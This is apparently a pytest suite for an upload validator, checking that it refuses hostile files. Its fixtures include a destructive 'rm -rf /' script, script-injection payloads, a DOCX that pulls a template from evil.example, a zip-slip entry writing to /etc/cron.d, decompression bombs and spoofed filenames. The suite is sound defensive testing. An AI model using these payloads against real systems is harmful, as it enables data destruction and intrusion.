"""What may come in from outside, by its bytes alone, and what is read of it; every parser in a process under limits."""

from __future__ import annotations

import resource
import time

import pytest

from documents import uploads
from documents.uploads.kinds import FileError
from tests.documents import outside_files as files

RELATION = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" TargetMode="External" Target="https://evil.example/t.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"/></Relationships>'
)


@pytest.mark.parametrize(
    ("content", "kind", "pages"),
    [
        (files.pdf(), uploads.PDF, 2), (files.word(), uploads.DOCX, None), (files.picture("PNG"), uploads.PNG, 1),
        (files.picture("JPEG"), uploads.JPEG, 1), (files.picture("WEBP"), uploads.WEBP, 1),
        (files.word_with("word/_rels/settings.xml.rels", RELATION % b"hyperlink"), uploads.DOCX, None),
    ],
    ids=["pdf", "docx", "png", "jpeg", "webp", "docx with a link"],
)  # fmt: skip
def test_examined__a_sound_file__is_what_its_bytes_say(content: bytes, kind: str, pages: int | None) -> None:
    assert uploads.examined(content) == uploads.Facts(kind, pages)


BOMB = files.word_with("word/media/zero.bin", b"\0" * 60_000_000)
REFUSED = {
    "empty": (b"", "file-empty"),
    "executable": (b"MZ\x90\x00" + b"\0" * 100, "file-type"),
    "script": (b"#!/bin/sh\nrm -rf /\n", "file-type"),
    "web page": (b"<html><script>alert(1)</script></html>", "file-type"),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "file-type"),
    "plain archive": (files.archive(**{"readme.txt": b"hello"}), "file-type"),
    "pdf cut off": (files.pdf()[:-200], "file-damaged"),
    "pdf of one line": (b"%PDF-1.7\n", "file-damaged"),
    "pdf of noise": (b"%PDF-1.7\n" + b"\xa5" * 5_000 + b"\nstartxref\n9\n%%EOF", "file-damaged"),
    "pdf with javascript": (files.pdf_with_javascript(), "file-active"),
    "pdf that starts a program": (files.pdf_with_action("/Launch"), "file-active"),
    "pdf that sends its form": (files.pdf_with_action("/SubmitForm"), "file-active"),
    "pdf with a hidden action": (files.pdf_with_hidden_action(), "file-active"),
    "pdf with a password": (files.pdf_with_password(), "file-encrypted"),
    "pdf that is an archive": (files.pdf() + files.archive(x=b"y"), "file-polyglot"),
    "pdf with a tail": (files.pdf() + b"x" * 5_000, "file-polyglot"),
    "pdf that is a page": (files.pdf().replace(b"%PDF-", b"%PDF-1.7 <script>alert(1)</script> %PDF-", 1),
                           "file-polyglot"),
    "picture cut off": (files.picture()[:-500], "file-damaged"),
    "picture that is an archive": (files.picture() + files.archive(x=b"y"), "file-polyglot"),
    "picture that is a pdf": (files.picture()[:40] + b"%PDF-1.7" + files.picture()[40:], "file-polyglot"),
    "picture of no kind": (b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "file-damaged"),
    "huge picture": (files.png_claiming(65_536, 65_536), "file-bomb"),
    "docx cut off": (files.word()[:-300], "file-damaged"),
    "docx with macros": (files.word_with("word/vbaProject.bin", b"macro"), "file-active"),
    "docx of another kind": (files.word_with("[Content_Types].xml", b"<Types/>", instead=True), "file-type"),
    "docx with an entity": (files.word_with(
        "word/x.xml", b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><x>&a;</x>'), "file-active"),
    "docx with a template from elsewhere": (files.word_with(
        "word/_rels/settings.xml.rels", RELATION % b"attachedTemplate"), "file-active"),
    "docx that leads out": (files.word_with("../../etc/cron.d/x", b"* * * * * root id"), "file-slip"),
    "docx bomb": (BOMB, "file-bomb"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_examined__what_must_not_come_in__is_refused_by_its_code(name: str) -> None:
    content, code = REFUSED[name]
    with pytest.raises(FileError) as refused:
        uploads.examined(content)
    assert refused.value.code == code
    assert refused.value.detail.endswith(".")


def test_examined__a_file_that_takes_too_long__is_ended_and_refused(settings) -> None:
    settings.UPLOAD_READ_SECONDS = 1
    slow = files.pdf_of_many_objects()
    started = time.monotonic()
    with pytest.raises(FileError) as refused:
        uploads.examined(slow)
    assert refused.value.code == "file-too-complex"
    assert time.monotonic() - started < 10


def test_examined__a_file_nested_deeply__is_refused() -> None:
    deep = b"%PDF-1.7\n1 0 obj\n" + b"[" * 1_000_000 + b"\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF"
    with pytest.raises(FileError) as refused:
        uploads.examined(deep)
    assert refused.value.code in ("file-too-complex", "file-damaged")


def test_examined__a_file_that_takes_too_much_memory__is_refused_and_we_do_not_grow(settings) -> None:
    settings.UPLOAD_READ_MEGABYTES = 150
    wide = files.png_claiming(9_000, 9_000)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(FileError):
        uploads.examined(wide)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000


def test_text_of__pdf_and_word__is_what_a_reader_sees() -> None:
    assert uploads.text_of(files.pdf("One sentence.", 2)) == ("One sentence.\n\nOne sentence.", False)
    text, cut = uploads.text_of(files.word())
    assert (text, cut) == (f"{files.SENTENCE}\n\nLessor | Aurora Luz", False)
    assert uploads.text_of(files.picture()) == ("", False)


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "a/b.pdf", "a\\b.pdf", "c\x00.pdf", "d\n.pdf", "", "..", " . ", "x" * 201,
     "invoice\u202efdp.exe", "zero\u200bwidth.pdf"],
)  # fmt: skip
def test_require_filename__that_poses_as_a_path_or_as_another__is_refused(name: str) -> None:
    with pytest.raises(FileError) as refused:
        uploads.require_filename(name)
    assert refused.value.code == "file-name"


def test_clean_title__is_the_name_in_words() -> None:
    assert uploads.clean_title("SEC_certificate of  incorporation.PDF") == "SEC certificate of incorporation"
    assert uploads.require_filename("Kasulatan ng Bilihan – Peña.pdf") == "Kasulatan ng Bilihan – Peña.pdf"
